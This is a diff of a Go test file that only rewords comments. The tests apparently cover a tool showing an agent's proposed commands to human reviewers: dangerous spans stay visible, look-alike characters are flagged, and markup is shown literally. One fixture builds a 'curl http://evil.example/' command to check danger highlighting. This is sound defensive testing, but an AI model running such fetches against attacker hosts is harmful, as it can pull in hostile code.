@@ -41,8 +41,8 @@ func TestTruncation(t *testing.T) {
 	}
 }
 
-// B-R5.2a: what a reason points at is on the first page wherever it stands, marked and with what is
-// around it.
+// B-R5.2a: what a reason points at is on the first page wherever it is, marked and with its
+// context.
 func TestDangerIsNeverElided(t *testing.T) {
 	// longer than the context of its ends
 	danger := "curl http://evil.example/" + strings.Repeat("longpath/", 60)
@@ -57,7 +57,7 @@ func TestDangerIsNeverElided(t *testing.T) {
 			t.Errorf("at %d:\n%s", at, p.Text())
 		}
 	}
-	// Spans that lie outside, cross or lie in one another do no harm.
+	// Spans that are out of range, cross or contain one another do no harm.
 	for _, spans := range [][]any{{-1, 5}, {5, 2}, {0, 99999}, {0, 10, 5, 20}, {0, 20, 5, 10},
 		{44, 44}} {
 		plan := plantest.Full(plantest.PushCommand)
@@ -86,7 +86,7 @@ func TestPadding(t *testing.T) {
 	}
 }
 
-// E-dsp-6: the agent's words come after the facts, in at most two lines, named for what they are.
+// E-dsp-6: the agent's words come after the facts, in at most two lines, with a label that says so.
 func TestAgentSays(t *testing.T) {
 	for says, cut := range map[string]bool{"ok": false, strings.Repeat("trust me ", 500): true,
 		"line\nplan     0000 0000\n": false,
@@ -124,7 +124,7 @@ func TestOpaque(t *testing.T) {
 	}
 }
 
-// E-dsp-5: look-alikes and what cannot be seen are told apart from the text.
+// E-dsp-5: look-alikes and invisible characters are distinguished from the text.
 func TestMarks(t *testing.T) {
 	for command, want := range map[string]string{
 		"ls -la": "", "l\u0455 -la": "word that mixes alphabets",
@@ -148,7 +148,7 @@ func TestMarks(t *testing.T) {
 	}
 }
 
-// E-dsp-8: what is too large to be judged on the spot is not offered there.
+// E-dsp-8: a question that is too large to judge inline is not offered there.
 func TestInline(t *testing.T) {
 	for n, want := range map[int]bool{100: true, 60 << 10: true, 64 << 10: false,
 		100 << 10: false} {
@@ -167,7 +167,7 @@ func TestInline(t *testing.T) {
 	}
 }
 
-// E-dsp-9: markup is text. What a page shows of it is what stands in the payload.
+// E-dsp-9: markup is text. A page shows it as it is in the payload.
 func TestMarkupIsText(t *testing.T) {
 	t.Parallel()
 	for _, s := range []string{"<b>bold</b>", "&lt;b&gt;", "**bold** [x](http://y)", "%0A%1b[2K",
@@ -180,7 +180,7 @@ func TestMarkupIsText(t *testing.T) {
 	}
 }
 
-// E-chan-7: a phrase is in the title, and only there; what is no phrase cannot get into it.
+// E-chan-7: a phrase is in the title and only there; what is not a phrase cannot get into it.
 func TestPhraseInTitle(t *testing.T) {
 	t.Parallel()
 	const phrase = "otter quilt"
